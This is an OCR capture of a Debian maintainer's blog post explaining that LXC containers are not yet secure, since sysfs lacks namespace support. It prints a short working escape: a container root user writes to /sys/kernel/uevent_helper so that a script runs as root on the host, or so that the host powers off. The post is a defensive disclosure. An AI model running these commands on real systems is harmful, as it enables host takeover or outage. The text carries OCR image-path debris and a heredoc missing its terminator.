Md at

tales of a debian maintainer

Evading from linux containers

For the past few years, the Linux Containers project has been developing some kernel technologies which provide isolation, accounting and management for kernel resources. When completed, together they will allow implementing lightweight virtualization of the operating system like is currently possible with OpenVZ.It is very important to understand that not all the pieces are ready yet, so currently a LXC container does not provide the same security of other virtualization technologies.

This example shows how the root user of a container can easily run code as root in the host system, since sysfs does not support namespaces:

lxc$ cat <<END > /tmp/evil-helper
echo 'hi!' >> /tmp/evil-helper.log
lxc$ chmod +x /tmp/evil-helper

lxc# mkdir /sys
lxc# mount -t sysfs sysfs /sys
lxc# echo /var/lib/lxc/test/rootfs/tmp/evil-helper > /sys/kernel/uevent_helper
lxc# echo change > /sys/class/mem/null/uevent

The last command will trigger a uevent, which will be processed by running in the host our script created inside the container.

Or else:

lxc# echo /sbin/poweroff > /sys/kernel/uevent_helperBecause of this, LXC containers are vulnerable to a malicious root user and are not really a replacement for OpenVZ. This will change when support for labelling files with user namespaces will be completed.


This is the blog of Marco d'Itri.

2 3 4 5 6 7 8
9 10 11 12 13 14 15
16 17 18 19 20 21 22
2324 25 26 27 28 29
30 31

See also:

My blogroll:

W3C HTML 4.01
W3C CSS 2.0

Powered by